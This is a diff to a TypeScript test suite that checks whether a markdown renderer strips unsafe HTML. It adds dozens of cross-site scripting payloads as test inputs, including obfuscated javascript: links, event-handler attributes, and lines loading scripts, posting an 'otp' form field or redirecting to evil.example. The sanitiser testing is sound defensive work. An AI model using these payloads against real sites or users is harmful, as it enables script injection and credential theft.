@@ -48,17 +48,73 @@ function read(html: string) {
   return seen;
 }
 
+function expectClean(html: string) {
+  const seen = read(html);
+  expect([...seen.tags].filter((tag) => !tags.includes(tag))).toEqual([]);
+  expect([...seen.attributes].filter((name) => !attributes.includes(name))).toEqual([]);
+  for (const link of seen.links) {
+    // As a browser reads an address: without what it leaves out.
+    const scheme = /^[a-z][a-z0-9+.-]*:/i.exec(link.replaceAll(/[\p{Cc}\s]/gu, ""))?.[0].toLowerCase();
+    expect([undefined, "http:", "https:", "mailto:", "tel:"]).toContain(scheme);
+  }
+}
+
 test("whatever is written, no other tags, attributes and links come out, in either language", () => {
   holds<[string, "en" | "hi"]>(markdown, fc.constantFrom("en", "hi"), (text, language) => {
-    const seen = read(renderMarkdown(text, language));
-    expect([...seen.tags].filter((tag) => !tags.includes(tag))).toEqual([]);
-    expect([...seen.attributes].filter((name) => !attributes.includes(name))).toEqual([]);
-    for (const link of seen.links) {
-      // As a browser reads an address: without what it leaves out.
-      const scheme = /^[a-z][a-z0-9+.-]*:/i.exec(link.replaceAll(/[\p{Cc}\s]/gu, ""))?.[0].toLowerCase();
-      expect([undefined, "http:", "https:", "mailto:", "tel:"]).toContain(scheme);
-    }
+    expectClean(renderMarkdown(text, language));
   });
+});
+
+const addresses = [
+  "javascript:alert(1)",
+  "JaVaScRiPt:alert(1)",
+  "java&#115;cript:alert(1)",
+  "javascript&colon;alert(1)",
+  "&#x6A;avascript:alert(1)",
+  "\u0001javascript:alert(1)",
+  "java\tscript:alert(1)",
+  "vbscript:msgbox(1)",
+  "data:text/html,<script>alert(1)</script>",
+  "file:///etc/passwd",
+  "blob:x",
+];
+
+test.each([
+  "<script>alert(1)</script>",
+  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+  "<scr<script>ipt>alert(1)</script>",
+  "Text <script>alert(1)</script> in a line",
+  "<img src=x onerror=alert(1)>",
+  "<img src=x onerror=alert(1)//",
+  "<svg onload=alert(1)><animate onbegin=alert(1)>",
+  "<iframe src='javascript:alert(1)'></iframe>",
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  "<style>body{display:none}</style>",
+  '<p style="position:fixed;inset:0">over all</p>',
+  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
+  '<form action="//evil.example"><input name=otp></form>',
+  "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
+  '<meta http-equiv="refresh" content="0;url=//evil.example">',
+  '<base href="//evil.example/">',
+  "<!--><script>alert(1)</script>-->",
+  "<details open ontoggle=alert(1)>",
+  "# <img src=x onerror=alert(1)>",
+  "| <script>alert(1)</script> | b |\n| --- | --- |\n| <img src=x onerror=alert(1)> | c |",
+  '| "><script>alert(1)</script> | b |\n| --- | --- |\n| a | c |',
+  "> <video><source onerror=alert(1)></video>",
+  "`<script>alert(1)</script>`",
+  "```\n<script>alert(1)</script>\n```",
+  "![a picture](x.jpg)",
+  '![x](x "onerror=alert(1)")',
+  '![" onerror="alert(1)](x)',
+  '[x](/a "onmouseover=alert(1)")',
+  '[x](/a"onmouseover="alert(1))',
+  "[x](<javascript:alert(1)>)",
+  "[x]: javascript:alert(1)\n\n[x]",
+  "<javascript:alert(1)>",
+  ...addresses.map((address) => `[x](${address})`),
+])("nothing that does harm comes out of %j", (hostile) => {
+  expectClean(renderMarkdown(hostile));
 });
 
 test("no word of a text is lost, whichever marks stand around it", () => {
